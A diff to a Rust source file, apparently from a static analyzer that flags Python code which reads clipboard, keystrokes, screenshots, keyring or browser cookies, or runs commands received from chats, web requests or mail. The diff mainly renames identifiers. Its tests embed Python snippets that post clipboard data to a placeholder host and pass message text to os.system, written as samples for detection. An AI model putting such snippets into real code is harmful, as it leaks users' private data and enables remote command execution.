@@ -1,15 +1,15 @@
 //! Recognizes calls that return private data of the user (clipboard, keys, screen, cookies, mail)
 //! or data from outside (chats, web requests).
 
-use super::{Reader, calls::Call, path_of};
+use super::{PythonReader, calls::Call, dotted_path};
 use crate::{
-    act::{Act, Taint},
-    value::{self, CLIPBOARD, COOKIES, KEYS, REQUESTS, SCREEN, Value},
+    action::{Action, Taint},
+    value::{self, CLIPBOARD, COOKIES, KEYSTROKES, PROGRAM_REQUESTS, SCREENSHOTS, Value},
 };
 use ruff_python_ast::Expr;
 
 /// Packages that call handlers with data from outside, such as messages and requests.
-const CHATS: [&str; 20] = [
+const OUTSIDE_DATA_PACKAGES: [&str; 20] = [
     "fastapi",
     "flask",
     "bottle",
@@ -33,7 +33,7 @@ const CHATS: [&str; 20] = [
 ];
 
 /// Modules that the skill cannot shadow with a function of the same name.
-const LIBRARY: [&str; 27] = [
+const UNSHADOWED_MODULES: [&str; 27] = [
     "subprocess",
     "os",
     "sys",
@@ -69,16 +69,16 @@ fn root(name: &str) -> &str {
 
 /// Whether a dotted name belongs to one of these modules.
 pub(super) fn is_library(name: &str) -> bool {
-    LIBRARY.contains(&root(name))
+    UNSHADOWED_MODULES.contains(&root(name))
 }
 
 /// Whether a dotted name belongs to a package that receives data from outside.
-pub(super) fn is_chat(name: &str) -> bool {
-    CHATS.contains(&root(name))
+pub(super) fn receives_outside_data(name: &str) -> bool {
+    OUTSIDE_DATA_PACKAGES.contains(&root(name))
 }
 
 pub(super) fn by_name<'t>(
-    reader: &mut Reader<'t>,
+    reader: &mut PythonReader<'t>,
     name: &str,
     call: &Call<'_, 't>,
 ) -> Option<Value> {
@@ -92,7 +92,7 @@ pub(super) fn by_name<'t>(
         | "PIL.ImageGrab.grabclipboard"
         | "pandas.read_clipboard"
         | "win32clipboard.GetClipboardData" => {
-            reader.harm.pastes |= reader.loops > 0;
+            reader.harmful_calls.pastes |= reader.loops > 0;
             Value::tainted(Taint::private(CLIPBOARD))
         }
         "PIL.ImageGrab.grab"
@@ -103,7 +103,7 @@ pub(super) fn by_name<'t>(
         | "mss.mss().shot"
         | "mss.mss().save"
         | "mss.MSS().grab" => {
-            let taint = Taint::private(SCREEN);
+            let taint = Taint::private(SCREENSHOTS);
             let file = call.keyword("output").or_else(|| call.keyword("imageFilename"));
             reader.state.write(file.unwrap_or(&first), &taint);
             Value { name: Some("image()".into()), ..Value::tainted(taint) }
@@ -111,14 +111,14 @@ pub(super) fn by_name<'t>(
         "keyboard.record"
         | "keyboard.read_event"
         | "keyboard.read_key"
-        | "keyboard.get_typed_strings" => Value::tainted(Taint::private(KEYS)),
+        | "keyboard.get_typed_strings" => Value::tainted(Taint::private(KEYSTROKES)),
         "pynput.keyboard.Listener"
         | "pynput.keyboard.Events"
         | "keyboard.on_press"
         | "keyboard.on_release"
         | "keyboard.hook"
         | "pyxhook.HookManager" => {
-            let pressed = Value::tainted(Taint::private(KEYS));
+            let pressed = Value::tainted(Taint::private(KEYSTROKES));
             let handlers = call.keywords.iter().map(|(_, value)| value);
             for handler in call.positional.iter().chain(handlers) {
                 reader.invoke(handler, std::slice::from_ref(&pressed), call.span);
@@ -126,10 +126,10 @@ pub(super) fn by_name<'t>(
             Value { name: Some(format!("{name}()")), ..pressed }
         }
         "keyring.get_password" | "keyring.get_credential" => {
-            value::keychain(&first, call.span, &mut reader.acts)
+            value::read_keychain(&first, call.span, &mut reader.actions)
         }
         _ if name.starts_with("browser_cookie3.") || name.starts_with("rookiepy.") => {
-            reader.acts.push(Act::Secret("browser cookies"), call.span);
+            reader.actions.push(Action::ReadsCredentials("browser cookies"), call.span);
             Value::tainted(Taint::credential("browser cookies"))
         }
         "logging.handlers.HTTPHandler"
@@ -142,9 +142,9 @@ pub(super) fn by_name<'t>(
             let text = host.items.first().cloned().unwrap_or(host).text;
             Value { name: Some(format!("{name}()")), text, ..Value::default() }
         }
-        _ if is_chat(name) && name.ends_with("Handler") => {
+        _ if receives_outside_data(name) && name.ends_with("Handler") => {
             // `MessageHandler(filters.TEXT, run)`: the function receives messages from outside.
-            handle(reader, call);
+            call_handlers_with_outside_data(reader, call);
             Value::named(format!("{name}()"))
         }
         _ => return None,
@@ -152,7 +152,7 @@ pub(super) fn by_name<'t>(
 }
 
 pub(super) fn by_method<'t>(
-    reader: &mut Reader<'t>,
+    reader: &mut PythonReader<'t>,
     method: &str,
     call: &Call<'_, 't>,
 ) -> Option<Value> {
@@ -179,12 +179,12 @@ pub(super) fn by_method<'t>(
             let taint = call.receiver.all_taint();
             reader.state.write(&call.first(), &taint);
             if let Some(at) = call.expressions.first() {
-                reader.put_into(at, &taint);
+                reader.add_taint_to(at, &taint);
             }
             Value::default()
         }
-        "append" if call.receiver_at.is_some_and(is_hooks) => {
-            let seen = Value::tainted(Taint::private(REQUESTS));
+        "append" if call.receiver_at.is_some_and(is_response_hooks) => {
+            let seen = Value::tainted(Taint::private(PROGRAM_REQUESTS));
             reader.invoke(&call.first(), &[seen], call.span)
         }
         "fetch" | "uid" | "retr" if host.starts_with("imaplib.") || host.starts_with("poplib.") => {
@@ -215,32 +215,32 @@ pub(super) fn by_method<'t>(
         {
             let to = Value { text: reader.log_to.clone(), ..Value::default() };
             let said = Value::tainted(call.taint());
-            value::send(&to, &[&said], &[], call.span, &mut reader.acts)
+            value::record_send(&to, &[&said], &[], call.span, &mut reader.actions)
         }
         "setopt" if host.starts_with("pycurl.") => {
             let what = call.first().name.unwrap_or_default();
-            let given = call.positional.get(1).cloned().unwrap_or_default();
+            let passed_values = call.positional.get(1).cloned().unwrap_or_default();
             let mut handle = call.receiver.clone();
             if what.rsplit('.').next() == Some("URL") {
-                handle.text = given.text;
+                handle.text = passed_values.text;
             } else if !what.ends_with("HTTPHEADER") && !what.ends_with("USERPWD") {
-                handle.taint.add(&given.all_taint());
+                handle.taint.add(&passed_values.all_taint());
             }
             if let Some(at) = call.receiver_at {
-                reader.bind_place(at, handle);
+                reader.assign_in_scope(at, handle);
             }
             Value::default()
         }
         "perform" if host.starts_with("pycurl.") => {
             let to = Value { text: call.receiver.text.clone(), ..Value::default() };
             let sent = Value::tainted(call.receiver.taint.clone());
-            value::send(&to, &[&sent], &[], call.span, &mut reader.acts)
+            value::record_send(&to, &[&sent], &[], call.span, &mut reader.actions)
         }
         "register_function"
         | "message_callback_add"
         | "add_message_handler"
         | "register_message_handler" => {
-            handle(reader, call);
+            call_handlers_with_outside_data(reader, call);
             Value::default()
         }
         _ => return None,
@@ -248,18 +248,18 @@ pub(super) fn by_method<'t>(
 }
 
 /// Whether an expression is the list of response hooks of a session.
-fn is_hooks(place: &Expr) -> bool {
+fn is_response_hooks(place: &Expr) -> bool {
     let place = if let Expr::Subscript(found) = place { &found.value } else { place };
-    path_of(place).is_some_and(|path| path.rsplit('.').next() == Some("hooks"))
+    dotted_path(place).is_some_and(|path| path.rsplit('.').next() == Some("hooks"))
 }
 
 /// Calls the functions among the arguments with data from outside.
-fn handle<'t>(reader: &mut Reader<'t>, call: &Call<'_, 't>) {
+fn call_handlers_with_outside_data<'t>(reader: &mut PythonReader<'t>, call: &Call<'_, 't>) {
     let written = Value::tainted(Taint::fetched(""));
-    let given = [written.clone(), written.clone(), written];
+    let passed_values = [written.clone(), written.clone(), written];
     for handler in call.positional {
-        if reader.is_own(handler) {
-            reader.invoke(handler, &given, call.span);
+        if reader.is_skill_function(handler) {
+            reader.invoke(handler, &passed_values, call.span);
         }
     }
 }
@@ -267,26 +267,29 @@ fn handle<'t>(reader: &mut Reader<'t>, call: &Call<'_, 't>) {
 #[cfg(test)]
 mod tests {
     use crate::{
-        act::{Act, CodeOrigin, Taint},
+        action::{Action, CodeOrigin, Taint},
         python::read,
     };
 
     fn sends(text: &str) -> Taint {
-        let acts = read(text).unwrap_or_else(|error| panic!("{error}: {text}"));
-        let sent = acts.located.into_iter().find_map(|seen| match seen.act {
-            Act::Network { sends, .. } if sends.is_secret() => Some(sends),
+        let actions = read(text).unwrap_or_else(|error| panic!("{error}: {text}"));
+        let sent = actions.located.into_iter().find_map(|seen| match seen.action {
+            Action::Connects { sends, .. } if sends.is_secret() => Some(sends),
             _ => None,
         });
         sent.unwrap_or_default()
     }
 
-    fn obeys(text: &str) -> bool {
-        let acts = read(text).unwrap_or_else(|error| panic!("{error}: {text}"));
-        acts.located.iter().any(|seen| matches!(seen.act, Act::Executes(CodeOrigin::Fetched(_))))
+    fn executes_outside_data(text: &str) -> bool {
+        let actions = read(text).unwrap_or_else(|error| panic!("{error}: {text}"));
+        actions
+            .located
+            .iter()
+            .any(|seen| matches!(seen.action, Action::ExecutesCode(CodeOrigin::Fetched(_))))
     }
 
     #[test]
-    fn what_users_copy_type_and_see() {
+    fn clipboard_keys_and_screen_are_private() {
         for text in [
             "import pyperclip, requests\nrequests.post('https://a.example', data=pyperclip.paste())",
             "import subprocess, requests\nt = subprocess.run(['pbpaste'], capture_output=True).stdout\nrequests.post('https://a.example', data=t)",
@@ -302,7 +305,7 @@ mod tests {
     }
 
     #[test]
-    fn what_others_write_is_obeyed() {
+    fn commands_from_outside_are_found() {
         for text in [
             "import telebot, os\nbot = telebot.TeleBot('t')\n@bot.message_handler(func=lambda m: True)\ndef go(m):\n    os.system(m.text)",
             "import paho.mqtt.client as mqtt, os\ndef on(c, u, m):\n    os.system(m.payload)\nc = mqtt.Client()\nc.on_message = on",
@@ -310,9 +313,9 @@ mod tests {
             "import requests, os\nclass A:\n    def do_run(self, a):\n        os.system(a)\nm = requests.get('https://a.example').json()\ngetattr(A(), 'do_' + m['op'])(m['arg'])",
             "import imaplib, os\nM = imaplib.IMAP4_SSL('a.example')\nos.popen(M.fetch(1, 'BODY')[1])",
         ] {
-            assert!(obeys(text), "{text}");
+            assert!(executes_outside_data(text), "{text}");
         }
-        assert!(!obeys(
+        assert!(!executes_outside_data(
             "import sys, os\ndef a(x):\n    print(x)\nT = {'a': a}\nT[sys.argv[1]](sys.argv[2])"
         ));
     }
